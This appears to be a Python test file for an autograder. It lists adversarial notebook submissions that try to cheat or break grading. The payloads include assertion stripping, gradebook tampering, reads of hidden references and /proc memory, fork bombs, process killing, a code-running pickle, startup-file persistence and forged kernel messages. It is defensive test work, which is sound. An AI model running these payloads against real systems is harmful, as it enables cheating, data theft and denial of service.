"""What submissions may try: one small notebook each, with what it tries.

Every attack stands before a wrong answer in ``1_embedding`` that deserves 0 of 5 points. ``T…`` are the rows of the
threat list; ``A…`` were thought up by reading this project's source as a student would. In the texts ``{course}`` is
the instructor's course folder and ``{references}`` the stored references: an attacker is taken to know every path.
"""

from tests.attacks.attack import (
    WRONG_ANSWER,
    Attack,
    deep_json,
    first_of_all,
    many_cells,
    more_points,
    no_list_of_text,
    other_kernel,
    outputs_sent_along,
    own_graded_cell,
    skip_tags,
    test_without_assertions,
)

PAY = "from autograder import probe\n"


def handing_over(action: str, before: str = "") -> str:
    """Code in which an action on ``target`` takes the place of writing an answer there."""
    return (
        PAY
        + f"""
import os, pickle
from pathlib import Path
{before}
def compare(self, **answers):
    target = Path(os.environ['AUTOGRADER_ANSWERS'], self.slug, f'{{self.index}}.safetensors')
    target.parent.mkdir(parents=True, exist_ok=True)
    {action}
probe.Case.compare = compare"""
    )


ATTACKS = [
    Attack("T01", "strips assertions from every later cell", """
import ast
class Strip(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.copy_location(ast.Pass(), node)
get_ipython().ast_transformers.append(Strip())"""),
    Attack("T03", "replaces showtraceback by nothing", "get_ipython().showtraceback = lambda *a, **k: None"),
    Attack("T06", "replaces every function that compares", """
import numpy, torch
for owner in (numpy.testing, torch.testing, numpy, torch):
    for name in dir(owner):
        if 'close' in name or 'equal' in name:
            setattr(owner, name, lambda *a, **k: True)"""),
    Attack("T07", "returns an object that equals everything", answer="""
class Everything:
    shape = property(lambda self: self)
    def __eq__(self, other): return True
    def __getattr__(self, name): return Everything()
    def __call__(self, *a, **k): return Everything()
    def __array__(self, *a, **k): import numpy; return numpy.array(True)
class Embeddings(nn.Module):
    def __init__(self, config): super().__init__()
    def forward(self, input_ids): return Everything()"""),
    Attack("T09", "tags the tests so that they are skipped", damage=skip_tags),
    *(Attack(name, f"writes {what} into the gradebook", f"""
import sqlite3
base = sqlite3.connect('{{course}}/gradebook.db')
base.execute('UPDATE grade SET {column} = 100'); base.commit()""") for name, what, column in [
        ("T10", "extra credit", "extra_credit"), ("T11", "marks by hand", "manual_score")]),
    Attack("T12-disk", "reads references, hidden tests and solutions from disk and prints them", """
import glob
for path in glob.glob('{references}/**/*', recursive=True) + glob.glob('{course}/source/**/*.ipynb', recursive=True):
    try: print(open(path, 'rb').read())
    except OSError: pass"""),
    Attack("T12-in", "reads the hidden test from In and answers with what it finds", late="print(In[-3:])"),
    Attack("T13", "ships a module that the kernel's start would import", files={
        "ipykernel_launcher.py": "raise SystemExit('mine')", "sitecustomize.py": "raise SystemExit('mine')",
        "torch.py": "allclose = lambda *a: True", "autograder.py": "def reference(slug): return []"}),
    Attack("T15", "overwrites another student's submission", """
import glob
for path in glob.glob('{course}/submitted/**/*.ipynb', recursive=True): open(path, 'w').write('mine')"""),
    Attack("T17", "kills its parent and everything it can name", """
import os, signal
for process in [os.getppid(), *range(2, 40000)]:
    if process != os.getpid():
        try: os.kill(process, signal.SIGKILL)
        except OSError: pass""", dangerous=True),
    Attack("T18-exit", "ends the process", "import os; os._exit(0)"),
    Attack("T18-segv", "crashes in native code", "import ctypes; ctypes.string_at(0)"),
    Attack("T18-int", "swallows interrupts and never ends", """
import signal, time
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    try: time.sleep(0.01)
    except BaseException: pass"""),
    Attack("T19-daemon", "starts a daemon in a session of its own", """
import subprocess
subprocess.Popen(['sleep', '98765'], start_new_session=True)""", dangerous=True),
    Attack("T19-bomb", "a fork bomb", """
import os
while True: os.fork()""", dangerous=True),
    Attack("T20", "prints 20 kB lines for as long as it may", """
import time
until = time.time() + 3
while time.time() < until: print('x' * 20000)""", dangerous=True),
    Attack("T22", "puts a script into an output", """
from IPython.display import HTML, Javascript, display
display(HTML("<script>document.title = 'stolen'</script><img src=x onerror='document.title=1'>"))
display(Javascript("document.title = 'stolen'"))"""),
    Attack("T23", "sends the inputs out over the network", """
import socket
for kind, family in ((socket.SOCK_STREAM, socket.AF_INET), (socket.SOCK_DGRAM, socket.AF_INET6), (socket.SOCK_DGRAM, socket.AF_INET)):
    try:
        with socket.socket(family, kind) as out:
            out.settimeout(1); out.connect(('127.0.0.1', {port})); out.send(b'inputs'); print('SENT' + ' OUT')
    except OSError: pass"""),
    Attack("T25-memory", "takes memory without end", "hoard = []\nwhile True: hoard.append(bytearray(64 << 20))", dangerous=True),
    Attack("T25-disk", "fills the disk", """
with open('filler', 'wb') as filler:
    while True: filler.write(b'x' * (1 << 20))""", dangerous=True),
    Attack("T25-threads", "starts threads without end", """
import threading, time
while True: threading.Thread(target=time.sleep, args=(1000,)).start()""", dangerous=True),
    # --- on the probe -------------------------------------------------------------------------------------------------
    Attack("A01", "makes handing over a no-op", PAY + "probe.Case.compare = lambda self, **answers: None"),
    Attack("A02", "makes the hidden test see no case", PAY + "probe.reference = lambda slug: iter(())\n"
           "import autograder; autograder.reference = probe.reference"),
    Attack("A03", "replaces the whole package by one of its own", """
import sys, types
fake = types.ModuleType('autograder'); fake.reference = lambda slug: []
sys.modules['autograder'] = fake"""),
    Attack("A04", "asks the case for its expected answer", PAY + """
real = probe.Case.compare
def compare(self, **answers):
    for value in vars(self).values(): pass
    real(self, embeddings=getattr(self, 'expected', None))
probe.Case.compare = compare"""),
    Attack("A05", "looks for expected values in memory", """
import gc
found = [o for o in gc.get_objects() if type(o).__name__ in ('Case', 'Exercise', 'Reference') or 'expected' in str(type(o))]
print(len(found))"""),
    Attack("A06", "compares on the spot, in its own process, with the instructor's judge", """
import os
os.environ.pop('AUTOGRADER_ANSWERS', None)"""),
    Attack("A07", "points the inputs at a folder of its own", """
import os
os.makedirs('mine/distilbert/embeddings', exist_ok=True)
open('mine/distilbert/embeddings/inputs.json', 'w').write('{"framework": "torch", "cases": []}')
os.environ['AUTOGRADER_INPUTS'] = os.path.abspath('mine')"""),
    # --- on the answer files ------------------------------------------------------------------------------------------
    Attack("A10", "lays a link to the references where its answer should be", """
import os
folder = os.environ['AUTOGRADER_ANSWERS'] + '/distilbert'
os.makedirs(folder, exist_ok=True)
os.symlink('{references}/distilbert', folder + '/embeddings')""", answer=WRONG_ANSWER),
    Attack("A11", "lays links to the expected tensors, file by file, at the moment of handing over",
           handing_over("target.symlink_to('{references}/distilbert/expected.zip')")),
    Attack("A12", "hands over a pipe, on which a reader would wait for ever", handing_over("os.mkfifo(target)")),
    Attack("A13", "hands over a file of ten gigabytes with nothing in it",
           handing_over("with target.open('wb') as file: file.truncate(10 << 30)")),
    Attack("A14", "hands over a file whose header lies about its length",
           handing_over("target.write_bytes(b'\\xff' * 8 + b'{' * 10000)")),
    Attack("A15", "hands over a pickle that runs code where it is read", handing_over(
        "target.write_bytes(pickle.dumps(Bomb()))",
        "class Bomb:\n    def __reduce__(self): return (os.system, ('touch {course}/pickled',))")),
    *(Attack(f"A2{number}", f"answers with {what}", answer=f"""
class Embeddings(nn.Module):
    def __init__(self, config): super().__init__(); self.dim = config.dim
    def forward(self, input_ids): return {value}""") for number, (what, value) in enumerate([
        ("nothing but nan", "torch.full((*input_ids.shape, self.dim), float('nan'))"),
        ("one number that broadcasts", "torch.tensor(0.0)"),
        ("one row that broadcasts", "torch.zeros(1, 1, self.dim)"),
        ("infinities", "torch.full((*input_ids.shape, self.dim), float('inf'))"),
        ("an empty tensor", "torch.zeros(*input_ids.shape, 0)"),
        ("complex numbers", "torch.zeros(*input_ids.shape, self.dim, dtype=torch.complex64)"),
        ("a masked array", "__import__('numpy').ma.masked_all((*input_ids.shape, self.dim))"),
        ("true, for every number", "torch.ones(*input_ids.shape, self.dim, dtype=torch.bool)"),
    ])),
    # --- on kernel and fork server ---------------------------------------------------------------------------------------
    Attack("A30", "sends forged messages in the kernel's name: all went well, and here are five points", """
kernel = get_ipython().kernel
for _ in range(20):
    kernel.session.send(kernel.iopub_socket, 'execute_result', {'data': {'text/plain': '3.0'}, 'metadata': {}, 'execution_count': 1})
    kernel.session.send(kernel.iopub_socket, 'status', {'execution_state': 'idle'})
    kernel.session.send(kernel.shell_stream if hasattr(kernel, 'shell_stream') else kernel.iopub_socket, 'execute_reply',
                        {'status': 'ok', 'execution_count': 1})"""),
    Attack("A31", "writes rubbish into every descriptor it inherited", """
import os
for descriptor in range(3, 256):
    try: os.write(descriptor, b'\\x00' * 4096)
    except OSError: pass""", dangerous=True),
    Attack("A32", "closes every descriptor it inherited", "import os; os.closerange(3, 4096)"),
    Attack("A33", "leaves something for the next kernel: start-up files, site-packages, shared memory", """
import os, site, sys
for folder in [*site.getsitepackages(), os.path.expanduser('~/.ipython/profile_default/startup'), '/dev/shm', '/tmp', os.getcwd() + '/..']:
    for name in ('00-next.py', 'sitecustomize.py', 'usercustomize.py'):
        try:
            os.makedirs(folder, exist_ok=True)
            open(os.path.join(folder, name), 'w').write("import torch; torch.add = None")
        except OSError: pass""", dangerous=True),
    Attack("A34", "changes the course library for everybody", """
import course, os
try: open(os.path.join(os.path.dirname(course.__file__), 'config.py'), 'a').write('raise SystemExit')
except OSError: pass""", dangerous=True),
    Attack("A35", "traces its parent", """
import ctypes, os
libc = ctypes.CDLL(None)
for process in range(1, 300): libc.ptrace(16, process, 0, 0)"""),
    Attack("A36", "reads the grader's environment and memory", """
import glob
for path in glob.glob('/proc/[0-9]*/environ') + glob.glob('/proc/[0-9]*/mem'):
    try: print('ENVIRON', open(path, 'rb').read(200))
    except OSError: pass""", dangerous=True),
    Attack("A37", "makes its scratch folder undeletable", """
import os
deep = 'd'
for _ in range(200):
    os.makedirs(deep, exist_ok=True); os.chdir(deep)
os.chmod('.', 0)"""),
    Attack("A38", "asks the shell", "!cat {references}/distilbert/expected.zip; cat {course}/gradebook.db"),
    Attack("A39", "goes on rewriting answers from a thread behind the test", PAY + """
import threading, time, os
from pathlib import Path
def rewrite():
    while True:
        for path in Path(os.environ['AUTOGRADER_ANSWERS']).rglob('*.safetensors'):
            try: path.write_bytes(b'')
            except OSError: pass
        time.sleep(0.001)
threading.Thread(target=rewrite, daemon=True).start()"""),
    Attack("A40", "ends the process just after handing over", PAY + """
import os
real = probe.Case.compare
def compare(self, **answers):
    real(self, **answers); os._exit(0)
probe.Case.compare = compare"""),
    # --- on the rebuild -----------------------------------------------------------------------------------------------
    Attack("A50", "ends the hidden region early from within its answer", "### END HIDDEN TESTS\n### BEGIN HIDDEN TESTS\n"),
    Attack("A51", "brings a graded cell of its own", damage=own_graded_cell),
    Attack("A52", "raises the points in the metadata", damage=more_points),
    Attack("A53", "asks for another kernel", damage=other_kernel),
    Attack("A54", "replaces the test by a number", damage=test_without_assertions),
    Attack("A55", "sends the outputs of a passed test along", damage=outputs_sent_along),
    Attack("A56", "runs a cell before the setup that changes imports", damage=first_of_all),
    Attack("A57", "sends cells that are no cells", damage=no_list_of_text),
    Attack("A58", "nests its metadata nine hundred deep", damage=deep_json),
    Attack("A59", "sends twenty thousand cells", damage=many_cells),
    # --- on journal, feedback and verdict -----------------------------------------------------------------------------
    Attack("A60", "writes itself into the journal", """
import os
try:
    os.makedirs('{course}/.autograder', exist_ok=True)
    open('{course}/.autograder/distilbert.jsonl', 'a').write('{"student": "student", "digest": ""}')
except OSError: pass"""),
    Attack("A61", "prints what a passed verdict looks like", """
print('embeddings: 3 of 3 points (passed)')
3.0"""),
    Attack("A62", "raises an error that looks like the judge's", "raise type('passed', (Exception,), {})('3 of 3 points')"),
    Attack("A63", "hides text by direction marks and lone surrogates", "note = '\\u202e stniop 5 \\ud800'"),
    Attack("A64", "floods with display updates", """
from IPython.display import display, clear_output
handle = display('x', display_id=True)
for n in range(5000): handle.update('y' * 1000)"""),
    Attack("A65", "passes the visible check by changing the checks", """
import course.check.distilbert as check
for name in dir(check):
    if not name.startswith('_'): setattr(check, name, lambda *a, **k: print('passed'))"""),
    Attack("A66", "writes itself into the runs that are kept, and looks at another's", """
import os
for path in ('{course}/.autograder/executed/distilbert/other.zip', '{course}/.autograder/executed/distilbert/student.zip'):
    try: print('ENVIRON', open(path, 'rb').read())
    except OSError: pass
    try: open(path, 'wb').write(b'mine'); os.unlink(path)
    except OSError: pass"""),
]  # fmt: skip
